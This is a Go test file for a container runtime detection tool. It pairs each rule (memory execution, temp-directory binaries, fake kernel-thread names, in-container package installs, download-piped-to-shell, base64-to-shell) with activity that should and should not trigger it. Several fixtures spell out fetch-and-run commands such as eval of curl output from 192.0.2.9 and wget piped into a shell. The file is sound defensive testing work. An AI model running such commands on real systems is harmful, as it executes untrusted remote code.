package policies_test

import "github.com/sightglass/sightglass/internal/schema"

var executionScenarios = []scenario{
	{
		rule: "Program run from memory",
		fires: []activity{
			exec("x", file("memfd:x"), attr("sightglass.process.memfd", true), below("python3")),
			exec("x", file("memfd:buildah-chroot-exec"), attr("sightglass.process.memfd", true), below("buildah"), attr(schema.ProcessParentPath, "/root/buildah")),
		},
		silent: []activity{
			exec("runc init", file("memfd:runc_cloned:/proc/self/exe"), attr("sightglass.process.memfd", true), below("containerd-shim")),
			exec("memfd:buildah-c x", file("memfd:buildah-chroot-exec"), attr("sightglass.process.memfd", true), below("podman"), attr(schema.ProcessParentPath, "/usr/bin/podman")),
			exec("x"),
		},
	},
	{
		rule: "Program that is not in the image",
		fires: []activity{
			exec("/usr/local/bin/x", in("web"), attr("sightglass.process.upper_layer", true)),
		},
		silent: []activity{
			exec("/usr/local/bin/x", attr("sightglass.process.upper_layer", true)),
			exec("/usr/local/bin/x", in("web"), attr("sightglass.process.lower_layer", true)),
		},
	},
	{
		rule: "Program run from a temporary directory",
		fires: []activity{
			exec("/tmp/x", below("bash")),
			exec("/dev/shm/x", in("web")),
			exec("./x", file("/var/tmp/x"), named("x"), below("sh")),
			exec("ls", file("/tmp/.hidden/ls")),
			exec("/tmp/apt", below("bash")),
			execArgs("deploy", []string{"python3", "/tmp/deploy"}, file("/usr/bin/env"), named("deploy"), below("bash")),
			execArgs("deploy", []string{"-S python3 -u", "/tmp/deploy"}, file("/usr/bin/env"), named("deploy"), below("bash")),
		},
		silent: []activity{
			execArgs("pyenv-exec", []string{"bash", "/root/.pyenv/libexec/pyenv-exec", "python3", "/tmp/x.py"}, file("/usr/bin/env"), named("pyenv-exec"), below("bash")),
			exec("ls /tmp"),
			exec("/tmp/go-build123/b001/x.test", below("go", "bash")),
			exec("/var/tmp/buildah1/mnt/rootfs/bin/sh -c make", below("memfd:buildah-c", "podman")),
			exec("/srv/tmp/x"),
		},
	},
	{
		rule: "Program poses as a kernel thread",
		fires: []activity{
			execArgs("[kworker/0:3]", nil, file("/opt/x"), named("x")),
			execArgs("[kthreadd]", []string{"60"}, file("/usr/bin/sleep"), named("sleep"), in("web")),
		},
		silent: []activity{
			exec("[ -f /etc/passwd ]"),
			exec("sleep 1"),
		},
	},
	{
		rule: "Package manager run in a container",
		fires: []activity{
			exec("apt-get install nmap", below("sh"), in("web")),
			exec("apk add curl", below("sh"), in("web")),
		},
		silent: []activity{
			exec("apt-get install nmap"),
			exec("apt-get --version", in("web")),
			exec("apt-get install x", below("sh", "runc", "buildkitd"), in("build")),
			exec("dpkg -i x", below("apt-get"), in("web")),
		},
	},
	{
		rule: "Program made executable in a container",
		fires: []activity{
			chmod("/tmp/x", 0o755, by("chmod +x /tmp/x"), in("web")),
		},
		silent: []activity{
			chmod("/tmp/x", 0o755, by("chmod +x /tmp/x")),
			chmod("/tmp/x", 0o644, by("chmod 644 /tmp/x"), in("web")),
			chmod("/srv/x", 0o755, by("chmod"), in("web")),
		},
	},
	{
		rule: "Download piped into a shell",
		fires: []activity{
			exec("sh", attr(schema.ProcessStdinFrom, "curl"), below("bash")),
			exec("bash -s -- -y", attr(schema.ProcessStdinFrom, "wget"), in("web")),
			exec("python3 -", attr(schema.ProcessStdinFrom, "curl")),
			exec("curl -sSL https://get.example.org", attr(schema.ProcessStdoutTo, "sh")),
			exec("gunzip", attr(schema.ProcessStdinFrom, "curl"), attr(schema.ProcessStdoutTo, "bash")),
			exec("wget -qO- http://192.0.2.9", attr(schema.ProcessStdoutTo, "python3"), attr(schema.ProcessScriptTo, "python3")),
			exec("gunzip", attr(schema.ProcessStdinFrom, "curl"), attr(schema.ProcessScriptTo, "perl")),
			exec("bash -c id", attr(schema.ProcessScriptFrom, []any{"curl"}), below("bash")),
			exec("python3 -c print()", attr(schema.ProcessScriptFrom, []any{"wget"}), in("web")),
			execArgs("sh", []string{"-c", `cd /srv; eval "$(curl -s http://192.0.2.9)"`}),
			execArgs("bash", []string{"-c", "source <(curl -s http://192.0.2.9)"}, in("web")),
			execArgs("sh", []string{"-c", ". <(wget -qO- http://192.0.2.9)"}),
		},
		silent: []activity{
			exec("sh", attr(schema.ProcessStdinFrom, "cat")),
			exec("sh -c cat>x", attr(schema.ProcessStdinFrom, "curl")),
			exec("python3 -m json.tool", attr(schema.ProcessStdinFrom, "curl")),
			exec("curl https://example.org", attr(schema.ProcessStdoutTo, "jq")),
			exec("curl https://example.org", attr(schema.ProcessStdoutTo, "python3")),
			exec("curl https://example.org", attr(schema.ProcessStdoutTo, "diff"), attr(schema.ProcessScriptTo, "diff")),
			exec("gunzip", attr(schema.ProcessStdinFrom, "curl"), attr(schema.ProcessStdoutTo, "tar")),
			exec("bash -c id", attr(schema.ProcessScriptFrom, []any{"cat"})),
			exec("diff /dev/fd/63 /dev/fd/62", attr(schema.ProcessScriptFrom, []any{"curl"})),
			exec("bash"),
			exec("sh -c /usr/sbin/dpkg-preconfigure", attr(schema.ProcessScriptFrom, []any{"http"}), below("apt-get", "bash")),
			execArgs("sh", []string{"-c", `v="$(curl -s http://192.0.2.9)"; eval "$(ssh-agent)"`}),
		},
	},
	{
		rule: "Encoded text run by a shell",
		fires: []activity{
			exec("sh", attr(schema.ProcessStdinFrom, "base64"), below("bash")),
			exec("bash", attr(schema.ProcessStdinFrom, "openssl"), in("web")),
			exec("python3 -", attr(schema.ProcessStdinFrom, "xxd")),
			exec("base64 -d", attr(schema.ProcessStdoutTo, "sh")),
			exec("base64 -d", attr(schema.ProcessScriptTo, "python3")),
			exec("bash -c id", attr(schema.ProcessScriptFrom, []any{"base64"})),
		},
		silent: []activity{
			exec("base64 -d", attr(schema.ProcessStdoutTo, "tar")),
			exec("base64 x", attr(schema.ProcessStdoutTo, "sh")),
			exec("base64 x", attr(schema.ProcessScriptTo, "python3")),
			exec("sh -c cat>x", attr(schema.ProcessStdinFrom, "base64")),
			exec("python3 -m json.tool", attr(schema.ProcessStdinFrom, "base64")),
			exec("sh", attr(schema.ProcessStdinFrom, "cat")),
		},
	},
}
